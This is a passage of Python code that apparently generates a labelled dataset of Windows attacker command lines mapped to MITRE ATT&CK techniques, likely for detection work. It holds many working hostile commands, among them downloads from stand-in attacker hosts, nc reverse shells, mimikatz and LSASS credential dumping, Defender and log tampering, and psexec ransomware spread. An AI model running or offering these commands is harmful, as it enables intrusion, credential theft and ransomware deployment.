        "cmd.exe /Q /c cd", r"cmd.exe /c C:\Windows\Temp\1.bat", r"C:\ProgramData\run.bat")
    ch(s, 160, r"rundll32.exe C:\ProgramData\update.dll,DllRegisterServer", ["T1218.011"])
    one(s, 110, "T1218.011", r"rundll32.exe C:\Users\Public\x.dll,StartW", r"rundll32 C:\ProgramData\mslib.dll,#1",
        r"rundll32.exe C:\Windows\Temp\a.dat,Control_RunDLL")
    ch(s, 90, r"regsvr32.exe /s C:\ProgramData\x.dll", ["T1218.010"])
    ch(s, 80, "regsvr32 /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll", ["T1218.010"])
    ch(s, 80, "mshta http://198.51.100.23/a.hta", ["T1218.005"])
    ch(s, 60, 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c iex(iwr http://198.51.100.23/r)"", 0:close")',
       ["T1218.005"])
    ch(s, 70, "msiexec /q /i http://198.51.100.23/p.msi", ["T1218.007"])
    ch(s, 70, r"cscript //nologo C:\ProgramData\x.vbs", ["T1059.005"])
    ch(s, 60, r"wscript.exe //B //E:jscript C:\Users\Public\u.txt", ["T1059.007"])
    ch(s, 80, 'wmic process call create "powershell -nop -w hidden -c iex(iwr http://198.51.100.23/r)"', ["T1047"])
    ch(s, 50, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Windows\Temp\b.xml", ["T1127.001"])
    ch(s, 40, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U C:\ProgramData\x.dll",
       ["T1218.004"])
    ch(s, 30, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\regasm.exe /U C:\ProgramData\r.dll", ["T1218.009"])
    ch(s, 30, r"forfiles /p C:\Windows\System32 /m notepad.exe /c C:\ProgramData\x.exe", ["T1202"])
    ch(s, 30, r"mavinject.exe 4312 /INJECTRUNNING C:\ProgramData\x.dll", ["T1218.013"])
    ch(s, 60, r"C:\ProgramData\beacon.exe", ["T1059.003"])

    # --- Phishing follow-through on the host -------------------------------------------------------------
    s = "phishing-execution"
    ch(s, 70, r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3ZK8P1L\Invoice_88213.doc" /o ""',
       ["T1566.001"])
    ch(s, 50, r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\amiller\Downloads\Remittance_0412.xlsm"',
       ["T1204.002"])
    ch(s, 60, r'"C:\Windows\System32\WScript.exe" "C:\Users\jdoe\Downloads\Payment_Details.js"', ["T1204.002"])
    ch(s, 40, r'"C:\Windows\explorer.exe" C:\Users\jdoe\Downloads\Scan_0412.iso', ["T1204.002"])
    ch(s, 50, r"rundll32.exe C:\Users\jdoe\AppData\Local\Temp\invoice.dll,#1", ["T1218.011"])
    ch(s, 40, r'cmd.exe /c "C:\Users\jdoe\Downloads\Document.lnk"', ["T1204.002"])
    ch(s, 30, r'"C:\Windows\System32\msiexec.exe" /i "C:\Users\jdoe\Downloads\Teams_Setup.msi" /qn', ["T1204.002"])

    # --- Ingress tool transfer (LOLBins and friends) ------------------------------------------------------
    s = "lolbin-download"
    ch(s, 420, r"certutil -urlcache -split -f http://198.51.100.23/a.exe C:\Users\Public\a.exe", ["T1105"])
    one(s, 200, "T1105", r"certutil.exe -urlcache -f http://198.51.100.23/x.dll %TEMP%\x.dll",
        r"certutil -urlcache -split -f http://203.0.113.12/svc.exe C:\ProgramData\svc.exe",
        r"certutil -verifyctl -split -f http://198.51.100.23/p.bin C:\ProgramData\p.bin")
    ch(s, 150, r"bitsadmin /transfer job /download /priority high http://198.51.100.23/a.exe C:\Users\Public\a.exe",
       ["T1197"])
    ch(s, 80, r"Start-BitsTransfer -Source http://198.51.100.23/t.zip -Destination C:\ProgramData\t.zip", ["T1197"])
    ch(s, 200, r"curl.exe -o C:\ProgramData\r.exe http://198.51.100.23/r.exe", ["T1105"])
    ch(s, 120, r"curl -k -s https://files.update-check.example/t.zip -o C:\ProgramData\t.zip", ["T1105"])
    ch(s, 160, r'powershell -c "Invoke-WebRequest -Uri http://198.51.100.23/r.zip -OutFile C:\ProgramData\r.zip"',
       ["T1105"])
    ch(s, 140, r"(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.23/x.exe','C:\ProgramData\x.exe')",
       ["T1105"])
    ch(s, 100, r"iwr http://198.51.100.23/k.exe -OutFile $env:TEMP\k.exe", ["T1105"])
    ch(s, 60, r"copy \\198.51.100.23\share\tools.zip C:\ProgramData\tools.zip", ["T1105"])
    ch(s, 70, r"certutil -decode C:\Users\Public\p.b64 C:\Users\Public\p.exe", ["T1140"])
    ch(s, 40, r"certutil -decodehex C:\ProgramData\p.hex C:\ProgramData\p.dll", ["T1140"])
    ch(s, 40, r"expand C:\ProgramData\t.cab -F:* C:\ProgramData\t", ["T1140"])
    ch(s, 60, r'powershell -c "Expand-Archive C:\ProgramData\t.zip -DestinationPath C:\ProgramData\t"', ["T1140"])
    ch(s, 60, r'"C:\Program Files\7-Zip\7z.exe" x C:\ProgramData\kit.7z -pK1t2024 -oC:\ProgramData\kit', ["T1140"])
    ch(s, 120, r"certutil -urlcache -split -f http://198.51.100.23/a.exe C:\Users\Public\a.exe && C:\Users\Public\a.exe",
       ["T1105", "T1059.003"], whole="T1105")
    ch(s, 90, r"cd C:\ProgramData & curl.exe -o svc.exe http://203.0.113.12/svc.exe & svc.exe",
       ["T1059.003", "T1105", "T1059.003"], whole="T1105")

    # --- Persistence -----------------------------------------------------------------------------------
    s = "win-persistence"
    ch(s, 260, r'schtasks /create /tn "MicrosoftEdgeUpdateTaskMachineUA2" /tr "C:\ProgramData\Edge\update.exe" /sc onlogon /ru SYSTEM /f',
       ["T1053.005"])
    ch(s, 200, r'schtasks /create /sc minute /mo 30 /tn "WindowsUpdateCheck" /tr "powershell -w hidden -ep bypass -f C:\Users\Public\u.ps1" /f',
       ["T1053.005"])
    one(s, 120, "T1053.005", r'schtasks /create /tn "GoogleUpdater" /tr C:\ProgramData\gu.exe /sc daily /st 09:00 /f',
        r'schtasks /create /sc onstart /tn "SysHealth" /tr "C:\Windows\Temp\svc.exe" /ru system /f',
        r'schtasks /change /tn "\Microsoft\Windows\Defrag\ScheduledDefrag" /tr C:\ProgramData\d.exe',
        'schtasks /query /fo LIST /v', r'schtasks /run /tn "WindowsUpdateCheck"')
    ch(s, 60, r'Register-ScheduledTask -TaskName "OneDrive Sync" -Action (New-ScheduledTaskAction -Execute C:\ProgramData\od.exe) -Trigger (New-ScheduledTaskTrigger -AtLogOn)',
       ["T1053.005"])
    ch(s, 230, r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveUpdate /t REG_SZ /d "C:\Users\Public\od.exe" /f',
       ["T1547.001"])
    one(s, 120, "T1547.001",
        r'reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v SecurityHealth2 /t REG_SZ /d "C:\ProgramData\sh.exe" /f',
        r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v upd /d "rundll32 C:\ProgramData\u.dll,Start" /f',
        r'New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Updater -Value C:\ProgramData\u.exe',
        r'copy C:\ProgramData\u.lnk "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\u.lnk"')
    ch(s, 180, r'sc create WinSvcUpd binPath= "C:\Windows\Temp\svc.exe" start= auto DisplayName= "Windows Update Helper"',
       ["T1543.003"])
    one(s, 90, "T1543.003", r'sc config WinSvcUpd binPath= "cmd /c C:\ProgramData\svc.exe"',
        r'New-Service -Name "DiagTrackSvc" -BinaryPathName "C:\ProgramData\dt.exe" -StartupType Automatic',
        'sc description WinSvcUpd "Keeps Windows up to date"',
        r'sc config upnphost binpath= "C:\ProgramData\nc.exe -e cmd 203.0.113.9 4443"')
    ch(s, 80, "sc start WinSvcUpd", ["T1569.002"])
    ch(s, 150, "net user support_adm P@ssw0rd!23 /add", ["T1136.001"])
    one(s, 80, "T1136.001", "net user admin$ Qwerty123! /add", "net user /add helpdesk Welcome1!",
        r'New-LocalUser -Name "svc_update" -Password (ConvertTo-SecureString "Upd@te2024" -AsPlainText -Force)')
    ch(s, 90, "net user backupsvc Qwerty123! /add /domain", ["T1136.002"])
    ch(s, 150, "net localgroup administrators support_adm /add", ["T1098.007"])
    one(s, 100, "T1098.007", 'net localgroup "Remote Desktop Users" support_adm /add',
        'net group "Domain Admins" backupsvc /add /domain', 'Add-ADGroupMember -Identity "Domain Admins" -Members backupsvc',
        "Add-LocalGroupMember -Group Administrators -Member svc_update")
    ch(s, 120, "net user support_adm P@ssw0rd!23 /add && net localgroup administrators support_adm /add && net localgroup \"Remote Desktop Users\" support_adm /add",
       ["T1136.001", "T1098.007", "T1098.007"], whole="T1136.001")
    ch(s, 70, "net user Administrator /active:yes", ["T1078.001"])
    ch(s, 60, "net user guest /active:yes && net localgroup administrators guest /add",
       ["T1078.001", "T1098.007"], whole="T1078.001")
    ch(s, 60, "net user support_adm Newpass#2024", ["T1098"])
    ch(s, 60, r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v support_adm /t REG_DWORD /d 0 /f',
       ["T1564.002"])
    ch(s, 70, r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f',
       ["T1546.008"])
    ch(s, 50, r"copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\utilman.exe", ["T1546.008"])
    ch(s, 40, r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /t REG_SZ /d "C:\Windows\system32\userinit.exe,C:\ProgramData\u.exe" /f',
       ["T1547.004"])
    ch(s, 40, r'wmic /namespace:\\root\subscription PATH __EventFilter CREATE Name="upd", EventNameSpace="root\cimv2", QueryLanguage="WQL", Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA ' + "'Win32_PerfFormattedData_PerfOS_System'" + '"',
       ["T1546.003"])
    ch(s, 35, r'wmic /namespace:\\root\subscription PATH CommandLineEventConsumer CREATE Name="upd", CommandLineTemplate="C:\ProgramData\u.exe"',
       ["T1546.003"])
    ch(s, 30, r'Set-Content -Path $PROFILE -Value "Start-Process C:\ProgramData\u.exe"', ["T1546.013"])
    ch(s, 40, r"copy C:\ProgramData\s.aspx C:\inetpub\wwwroot\aspnet_client\system_web\errors.aspx", ["T1505.003"])
    ch(s, 35, r'cmd.exe /c "cd /d "C:\inetpub\wwwroot\aspnet_client\"&whoami&echo [S]&cd&echo [E]"', ["T1505.003"])

    s = "rmm-persistence"
    ch(s, 110, r'AnyDesk.exe --install "C:\ProgramData\AnyDesk" --start-with-win --silent', ["T1219.002"])
    ch(s, 100, r"echo Adm1nDesk#24 | C:\ProgramData\AnyDesk.exe --set-password", [("T1219.002", ["T1219.002", "T1219.002"])])
    ch(s, 90, r"C:\ProgramData\AnyDesk.exe --get-id", ["T1219.002"])
    ch(s, 80, r"msiexec /i C:\ProgramData\ScreenConnect.ClientSetup.msi /qn", ["T1219.002"])
    ch(s, 70, r'msiexec /i C:\ProgramData\AteraAgentSetup.msi /qn IntegratorLogin=it@mail.example CompanyId=1', ["T1219.002"])
    ch(s, 50, r'"C:\Program Files\TeamViewer\TeamViewer.exe" assign --api-token 0Xb2Fake --grant-easy-access', ["T1219.002"])
    ch(s, 40, r"C:\ProgramData\Splashtop_Streamer.exe prevercheck /s USERINFO=dcode=9QK2W", ["T1219.002"])
    ch(s, 40, r"code.exe tunnel --accept-server-license-terms --name fs01-dev", ["T1219.001"])

    # --- Privilege escalation ---------------------------------------------------------------------------
    s = "uac-bypass"
    ch(s, 70, r'reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /d "C:\ProgramData\x.exe" /f', ["T1548.002"])
    ch(s, 60, r"reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /v DelegateExecute /t REG_SZ /f",
       ["T1548.002"])
    one(s, 60, "T1548.002", "fodhelper.exe", "computerdefaults.exe",
        r'reg add HKCU\Software\Classes\mscfile\shell\open\command /d "C:\ProgramData\x.exe" /f', "eventvwr.exe")
    ch(s, 50, r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f",
       ["T1548.002"])
    ch(s, 60, "PrintSpoofer64.exe -i -c cmd", ["T1134.001"])
    ch(s, 50, r'JuicyPotato.exe -l 1337 -p C:\Windows\System32\cmd.exe -a "/c C:\ProgramData\nc.exe -e cmd 203.0.113.9 443" -t *',
       ["T1134.001"])
    ch(s, 50, 'GodPotato-NET4.exe -cmd "cmd /c whoami"', ["T1134.001"])
    ch(s, 40, "psexec.exe -accepteula -s -i cmd.exe", ["T1569.002"])
    ch(s, 30, r'runas /netonly /user:corp\adm-backup cmd.exe', ["T1078.002"])
    ch(s, 30, r'runas /user:corp\svc_sql "cmd /c C:\ProgramData\svc.bat"', ["T1078.002"])
    ch(s, 30, r'icacls "C:\Program Files\Vuln App\svc.exe"', ["T1083"])
    ch(s, 30, r'Import-Module .\CVE-2021-1675.ps1; Invoke-Nightmare -NewUser "hax" -NewPassword "Passw0rd1"',
       ["T1068", "T1068"], whole="T1068")
    ch(s, 25, r"C:\ProgramData\cve-2024-26229.exe", ["T1068"])

    # --- Defence evasion --------------------------------------------------------------------------------
    s = "defender-tamper"
    ch(s, 380, "powershell Set-MpPreference -DisableRealtimeMonitoring $true", ["T1685"])
    one(s, 200, "T1685", "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-MpPreference -DisableIOAVProtection $true",
        "Set-MpPreference -DisableBehaviorMonitoring $true -DisableBlockAtFirstSeen $true -DisableScriptScanning $true",
        "Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0")
    ch(s, 150, r'powershell -c "Add-MpPreference -ExclusionPath C:\ProgramData"', ["T1564.012"])
    one(s, 120, "T1564.012", r'Add-MpPreference -ExclusionPath "C:\"', "Add-MpPreference -ExclusionExtension .exe,.dll",
        "Add-MpPreference -ExclusionProcess rundll32.exe")
    ch(s, 180, r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
       ["T1685"])
    one(s, 120, "T1685",
        r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f',
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /v TamperProtection /t REG_DWORD /d 0 /f',
        "sc stop WinDefend", "sc config WinDefend start= disabled", 'net stop "Sophos Anti-Virus" /y',
        "taskkill /f /im MsMpEng.exe", r'"C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All',
        "wmic product where \"name like '%Sophos%'\" call uninstall /nointeractive",
        "Uninstall-WindowsFeature -Name Windows-Defender", r"C:\ProgramData\Backstab64.exe -n MsMpEng.exe -k",
        r"C:\ProgramData\PCHunter64.exe", "sc stop SentinelAgent", 'net stop "Symantec Endpoint Protection" /y')
    ch(s, 100, "sc stop WinDefend & sc config WinDefend start= disabled & reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
       ["T1685", "T1685", "T1685"], whole="T1685")
    ch(s, 80, "for %s in (WinDefend Sense SecurityHealthService) do sc config %s start= disabled",
       ["T1685"])
    ch(s, 250, "netsh advfirewall set allprofiles state off", ["T1686"])
    one(s, 120, "T1686", "netsh firewall set opmode disable", "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
        'netsh advfirewall firewall add rule name="RDP" dir=in action=allow protocol=TCP localport=3389',
        'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
        'netsh advfirewall firewall add rule name="svc" dir=in action=allow program="C:\\ProgramData\\svc.exe"')
    ch(s, 130, r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
       ["T1112"])
    ch(s, 110, r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
       ["T1112"])
    one(s, 60, "T1112", r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f',
        r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f',
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v LocalAccountTokenFilterPolicy /t REG_DWORD /d 1 /f',
        r'reg delete "HKCU\Software\Microsoft\Terminal Server Client\Default" /va /f')
    ch(s, 60, r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f & netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
       ["T1112", "T1686"], whole="T1112")

    s = "log-clearing"
    ch(s, 300, "wevtutil cl security", ["T1685.005"])
    one(s, 200, "T1685.005", "wevtutil cl system", "wevtutil cl application", 'wevtutil cl "Windows PowerShell"',
        "Clear-EventLog -LogName Security,System,Application",
        'wevtutil cl "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational"')
    ch(s, 150, 'for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1"', ["T1685.005"])
    ch(s, 120, "wevtutil cl system & wevtutil cl security & wevtutil cl application",
       ["T1685.005"] * 3, whole="T1685.005")
    ch(s, 90, "Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }", [("T1685.005", ["T1685.005", "T1685.005"])])
    ch(s, 70, "wevtutil el | Foreach-Object {wevtutil cl \"$_\"}", [("T1685.005", ["T1685.005", "T1685.005"])])
    one(s, 60, "T1685.001", "wevtutil sl Security /e:false", "auditpol /clear /y",
        "auditpol /set /category:* /success:disable /failure:disable", "sc config eventlog start= disabled",
        r'reg add "HKLM\SYSTEM\CurrentControlSet\Services\EventLog\Security" /v MaxSize /t REG_DWORD /d 1 /f')
    ch(s, 150, r"del /f /q C:\ProgramData\x.exe", ["T1070.004"])
    one(s, 90, "T1070.004", r"del /f /s /q %TEMP%\*", r"Remove-Item -Force C:\Users\Public\*.ps1",
        r"sdelete64.exe -accepteula -p 3 C:\ProgramData\tools\*", r"del C:\ProgramData\lsass.dmp",
        r"rd /s /q C:\ProgramData\kit", r"del /q C:\Windows\Temp\*.bat")
    ch(s, 60, "fsutil usn deletejournal /d C:", ["T1070"])
    ch(s, 60, "Remove-Item (Get-PSReadlineOption).HistorySavePath", ["T1070.003"])
    ch(s, 40, "doskey /reinstall", ["T1070.003"])
    ch(s, 50, "Set-PSReadLineOption -HistorySaveStyle SaveNothing", ["T1690"])
    ch(s, 60, r"net use \\FS01\IPC$ /delete", ["T1070.005"])
    ch(s, 50, "net use * /delete /y", ["T1070.005"])
    ch(s, 40, r'reg delete "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU" /f', ["T1070"])
    ch(s, 80, r"attrib +h +s C:\ProgramData\svc", ["T1564.001"])
    ch(s, 50, r"attrib +h C:\Users\Public\x.exe", ["T1564.001"])
    ch(s, 40, r"icacls C:\ProgramData\svc /deny Everyone:(DE,DC)", ["T1222.001"])
    ch(s, 70, r'icacls "C:\*" /grant Everyone:F /T /C /Q', ["T1222.001"])
    ch(s, 40, r"takeown /f C:\Windows\System32\sethc.exe", ["T1222.001"])
    ch(s, 50, r"ren C:\ProgramData\rclone.exe svchost.exe", ["T1036.003"])
    ch(s, 40, r"copy C:\ProgramData\x.exe C:\Windows\System32\svch0st.exe", ["T1036.005"])
    ch(s, 35, r"move C:\Users\Public\a.exe C:\ProgramData\Microsoft\Windows\WER\werfault.exe", ["T1036.005"])
    ch(s, 30, "bcdedit /set {default} safeboot minimal", ["T1688"])
    ch(s, 25, r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\WinSvcUpd" /ve /t REG_SZ /d "Service" /f',
       ["T1688"])

    # --- Credential access -----------------------------------------------------------------------------
    s = "cred-dumping"
    nt = f.hexstr(16)
    ch(s, 220, r"procdump64.exe -accepteula -ma lsass.exe C:\ProgramData\lsass.dmp", ["T1003.001"])
    one(s, 120, "T1003.001", r"procdump -ma lsass.exe lsass.dmp", r"procdump.exe -accepteula -r -ma lsass.exe C:\Windows\Temp\l.dmp")
    ch(s, 200, r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\ProgramData\l.dmp full", ["T1003.001"])
    one(s, 100, "T1003.001", r"rundll32.exe comsvcs.dll MiniDump 812 C:\Windows\Temp\dump.bin full",
        r"powershell -c rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).id $env:TEMP\m.dmp full",
        'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"', "Invoke-Mimikatz -DumpCreds",
        r"nanodump.exe --write C:\ProgramData\n.dmp", r"C:\ProgramData\m64.exe privilege::debug sekurlsa::logonpasswords exit")
    ch(s, 130, 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" >> C:\\ProgramData\\m.txt',
       ["T1003.001"])
    ch(s, 110, 'for /f "tokens=2" %i in (\'tasklist ^| findstr lsass\') do rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %i C:\\ProgramData\\l.dmp full',
       ["T1003.001"])
    ch(s, 150, r"reg save hklm\sam C:\ProgramData\sam.hiv", ["T1003.002"])
    one(s, 110, "T1003.002", r"reg save hklm\system C:\ProgramData\sys.hiv", r"reg save HKLM\SAM sam /y",
        'mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" "exit"')
    ch(s, 100, r"reg save hklm\security C:\ProgramData\sec.hiv", ["T1003.004"])
    ch(s, 70, 'mimikatz.exe "privilege::debug" "lsadump::secrets" "exit"', ["T1003.004"])
    ch(s, 40, 'mimikatz.exe "privilege::debug" "lsadump::cache" "exit"', ["T1003.005"])
    ch(s, 90, r"reg save hklm\sam C:\ProgramData\sam.hiv & reg save hklm\system C:\ProgramData\sys.hiv & reg save hklm\security C:\ProgramData\sec.hiv",
       ["T1003.002", "T1003.002", "T1003.004"], whole="T1003.002")
    ch(s, 100, r'ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q', ["T1003.003"])
    one(s, 70, "T1003.003", "vssadmin create shadow /for=C:",
        r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\ProgramData\ntds.dit",
        r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\ProgramData\n.dit",
        r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SYSTEM C:\ProgramData\SYSTEM")
    ch(s, 60, r"vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\ProgramData\ntds.dit",
       ["T1003.003", "T1003.003"], whole="T1003.003")
    ch(s, 70, 'mimikatz.exe "lsadump::dcsync /domain:corp.example /user:krbtgt" "exit"', ["T1003.006"])
    ch(s, 50, 'mimikatz.exe "lsadump::dcsync /domain:corp.example /all /csv" "exit"', ["T1003.006"])
    ch(s, 40, f'mimikatz.exe "kerberos::golden /user:Administrator /domain:corp.example /sid:S-1-5-21-3623811015-3361044348-30300820 /krbtgt:{f.hexstr(16)} /ptt" "exit"',
       ["T1558.001"])
    ch(s, 60, f'mimikatz.exe "sekurlsa::pth /user:administrator /domain:corp.example /ntlm:{nt} /run:cmd.exe" "exit"',
       ["T1550.002"])
    ch(s, 40, 'mimikatz.exe "kerberos::ptt C:\\ProgramData\\t.kirbi" "exit"', ["T1550.003"])
    ch(s, 70, "lazagne.exe all -oN", ["T1555"])
    ch(s, 60, "SharpChrome.exe logins /unprotect", ["T1555.003"])
    ch(s, 50, r'copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" C:\ProgramData\ld.db', ["T1555.003"])
    ch(s, 40, r'copy "%APPDATA%\Mozilla\Firefox\Profiles\x1y2z3.default-release\logins.json" C:\ProgramData\lj.json', ["T1555.003"])
    ch(s, 50, 'vaultcmd /listcreds:"Windows Credentials" /all', ["T1555.004"])
    ch(s, 40, r'copy "%APPDATA%\KeePass\KeePass.config.xml" C:\ProgramData\kp.xml', ["T1555.005"])
    ch(s, 90, "findstr /si password *.xml *.ini *.txt *.config", ["T1552.001"])
    one(s, 50, "T1552.001", r"type C:\inetpub\wwwroot\web.config", r'findstr /spin "password" C:\Users\*.txt',
        r"type C:\Windows\Panther\Unattend.xml", r"dir /s /b \\FS01\IT\*pass*")
    ch(s, 60, r"findstr /S /I cpassword \\corp.example\sysvol\corp.example\policies\*.xml", ["T1552.006"])
    ch(s, 40, "Get-GPPPassword", ["T1552.006"])
    ch(s, 60, "reg query HKLM /f password /t REG_SZ /s", ["T1552.002"])
    one(s, 40, "T1552.002", r'reg query "HKCU\Software\ORL\WinVNC3\Password"',
        r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\Currentversion\Winlogon" /v DefaultPassword',
        r'reg query "HKCU\Software\SimonTatham\PuTTY\Sessions" /s')
    ch(s, 80, "Rubeus.exe kerberoast /outfile:hashes.txt", ["T1558.003"])
    ch(s, 60, "Invoke-Kerberoast -OutputFormat Hashcat | fl", [("T1558.003", ["T1558.003", "T1558.003"])])
    ch(s, 50, "Rubeus.exe asreproast /format:hashcat /outfile:asrep.txt", ["T1558.004"])
    ch(s, 30, "Rubeus.exe dump /nowrap", ["T1558"])
    ch(s, 60, "crackmapexec smb 192.0.2.0/24 -u users.txt -p 'Spring2024!' --continue-on-success", ["T1110.003"])
    ch(s, 50, "kerbrute_windows_amd64.exe passwordspray -d corp.example users.txt Winter2024!", ["T1110.003"])
    ch(s, 40, "hashcat.exe -m 13100 hashes.txt rockyou.txt -O", ["T1110.002"])
    ch(s, 30, "Invoke-DomainPasswordSpray -Password Welcome2024! -OutFile spray.txt", ["T1110.003"])

    # --- Lateral movement ------------------------------------------------------------------------------
    s = "lateral-movement"
    ch(s, 160, r"psexec.exe \\192.0.2.21 -u corp\adm-backup -p Welcome2024! -accepteula -d -s cmd /c C:\ProgramData\svc.exe",
       ["T1569.002"])
    one(s, 110, "T1021.002", r"psexec \\FS01 -s cmd", r"PsExec64.exe \\192.0.2.22 -accepteula -s powershell -ep bypass",
        r"net use \\192.0.2.21\C$ /user:corp\adm-backup Welcome2024!", r"net use Z: \\FS01\C$", r"dir \\192.0.2.21\C$",
        r"net use \\DC01\ADMIN$")
    ch(s, 140, r"PsExec64.exe -accepteula @C:\ProgramData\hosts.txt -s -d -c C:\ProgramData\locker.exe", ["T1569.002"])
    ch(s, 90, r"psexec.exe -accepteula \\192.0.2.23 -u corp\adm-backup -p Welcome2024! -h -d cmd /c rundll32 C:\ProgramData\b.dll,Start",
       ["T1021.002"])
    ch(s, 100, r"copy C:\ProgramData\svc.exe \\192.0.2.21\C$\ProgramData\svc.exe", ["T1570"])
    one(s, 60, "T1570", r"xcopy C:\ProgramData\kit \\FS01\C$\ProgramData\kit /E /Y",
        r"Copy-Item C:\ProgramData\b.dll -Destination \\FS01\C$\ProgramData\b.dll",
        r'for /f %i in (C:\ProgramData\hosts.txt) do copy C:\ProgramData\locker.exe \\%i\C$\ProgramData\locker.exe')
    ch(s, 120, r'wmic /node:192.0.2.21 /user:corp\adm-backup /password:Welcome2024! process call create "cmd /c C:\ProgramData\svc.exe"',
       ["T1047"])
    one(s, 70, "T1047", r'wmic /node:@C:\ProgramData\hosts.txt process call create "C:\ProgramData\locker.exe"',
        r'Invoke-WmiMethod -ComputerName FS01 -Class Win32_Process -Name Create -ArgumentList "C:\ProgramData\b.exe"',
        r'wmiexec.exe corp/administrator@192.0.2.21 "whoami"')
    ch(s, 100, "mstsc /v:192.0.2.30", ["T1021.001"])
    ch(s, 60, r"cmdkey /generic:TERMSRV/192.0.2.30 /user:corp\adm-backup /pass:Welcome2024! & mstsc /v:192.0.2.30",
       ["T1021.001", "T1021.001"], whole="T1021.001")
    ch(s, 40, r"tscon 3 /dest:rdp-tcp#14", ["T1563.002"])
    ch(s, 90, "Invoke-Command -ComputerName FS01 -ScriptBlock { Get-Process }", ["T1021.006"])
    one(s, 60, "T1021.006", "Enter-PSSession -ComputerName DC01",
        r'winrs -r:http://FS01:5985 -u:corp\adm-backup -p:Welcome2024! "cmd /c whoami"',
        r"Invoke-Command -ComputerName (Get-Content C:\ProgramData\hosts.txt) -FilePath C:\ProgramData\s.ps1")
    ch(s, 60, r'sc \\FS01 create updsvc binPath= "C:\ProgramData\svc.exe" start= auto', ["T1543.003"])
    ch(s, 60, r"sc \\FS01 start updsvc", ["T1569.002"])
    ch(s, 50, r'schtasks /create /s FS01 /u corp\adm-backup /p Welcome2024! /tn "upd" /tr "C:\ProgramData\svc.exe" /sc once /st 00:00 /ru SYSTEM',
       ["T1053.005"])
    ch(s, 40, r'schtasks /run /s FS01 /tn "upd"', ["T1053.005"])
    ch(s, 40, '[Activator]::CreateInstance([Type]::GetTypeFromProgID("MMC20.Application","192.0.2.22")).Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c C:\\ProgramData\\s.exe","7")',
       ["T1021.003"])
